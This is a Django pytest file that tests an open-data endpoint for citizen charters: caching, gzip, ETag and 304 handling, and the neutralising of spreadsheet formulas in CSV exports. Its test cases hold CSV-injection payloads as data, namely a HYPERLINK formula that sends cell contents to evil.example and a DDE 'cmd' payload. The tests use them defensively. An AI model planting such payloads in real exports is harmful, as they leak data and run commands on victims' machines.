"""The national open data: built once per content version, kept gzipped, ETag / Last-Modified /
304, and CSV cells a spreadsheet would run as formulas neutralised."""

import csv
import gzip
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from charters.opendata import spreadsheet_safe
from services.models import Service
from tests.support.charters import publish_now

pytestmark = pytest.mark.django_db

GZIP = {"HTTP_ACCEPT_ENCODING": "gzip, deflate, br"}


def body(response):
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("path", ["/opendata/charters.json", "/opendata/services.csv"])
def test_built_once_per_version_and_sent_gzipped_with_validators(client, path):
    first = client.get(path, **GZIP)
    assert first.status_code == 200 and first["Content-Encoding"] == "gzip" and "Accept-Encoding" in first["Vary"]
    packed = body(first)
    assert int(first["Content-Length"]) == len(packed)
    etag, last_modified = first["ETag"], first["Last-Modified"]
    with CaptureQueriesContext(connection) as queries:
        again = client.get(path, **GZIP)
        assert body(again) == packed and again["ETag"] == etag
    assert len(queries) == 1  # the content version; the document is not built again
    # A client that does not accept gzip gets the same document, decompressed, under the same tag.
    plain = client.get(path)
    assert "Content-Encoding" not in plain and body(plain) == gzip.decompress(packed)
    # A repeat request: 304 with no body, by the tag (weak or strong) or by the date.
    for headers in (
        {"HTTP_IF_NONE_MATCH": etag},
        {"HTTP_IF_NONE_MATCH": f"W/{etag}"},
        {"HTTP_IF_MODIFIED_SINCE": last_modified},
    ):
        repeat = client.get(path, **GZIP, **headers)
        assert repeat.status_code == 304 and repeat.content == b"" and repeat["ETag"] == etag
    assert client.get(path, HTTP_IF_NONE_MATCH='"something-else"', **GZIP).status_code == 200


def test_a_change_builds_a_new_document(client):
    before = client.get("/opendata/charters.json", **GZIP)
    service = Service.objects.get(office__key="joypurhat", category=Service.Category.CITIZEN, serial=1)
    service.name = "নতুন নাম: তথ্য প্রদান"
    service.save()
    # A draft: the open data is the published charters', so it stays as it was until publication.
    assert client.get("/opendata/charters.json", HTTP_IF_NONE_MATCH=before["ETag"], **GZIP).status_code == 304
    publish_now(service.office)
    after = client.get("/opendata/charters.json", HTTP_IF_NONE_MATCH=before["ETag"], **GZIP)
    assert after.status_code == 200 and after["ETag"] != before["ETag"]
    offices = {o["key"]: o for o in json.loads(gzip.decompress(body(after)))["offices"]}
    assert offices["joypurhat"]["services"][0]["name"]["bn"] == "নতুন নাম: তথ্য প্রদান"


@pytest.mark.parametrize(
    "text, safe",
    [
        ('=HYPERLINK("https://evil.example/?"&A1,"বিস্তারিত")', '\'=HYPERLINK("https://evil.example/?"&A1,"বিস্তারিত")'),
        ("+8801700000000", "'+8801700000000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("বিনামূল্যে", "বিনামূল্যে"),
        ("১ দিন = ৮ ঘণ্টা", "১ দিন = ৮ ঘণ্টা"),  # only a leading sign makes a formula
        ("", ""),
        (7, 7),
    ],
)
def test_formula_cells_get_a_leading_apostrophe(text, safe):
    assert spreadsheet_safe(text) == safe


def test_a_service_named_like_a_formula_reaches_the_csv_as_text(client):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    service = Service.objects.get(office__key="joypurhat", category=Service.Category.CITIZEN, serial=2)
    service.name, service.fee = formula, "-"
    service.save()
    publish_now(service.office)
    text = body(client.get("/opendata/services.csv")).decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    row = next(r for r in rows if r["office_key"] == "joypurhat" and r["serial"] == "2" and r["category"] == "citizen")
    assert row["name"] == "'" + formula and row["fee"] == "'-"
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for value in r.values())
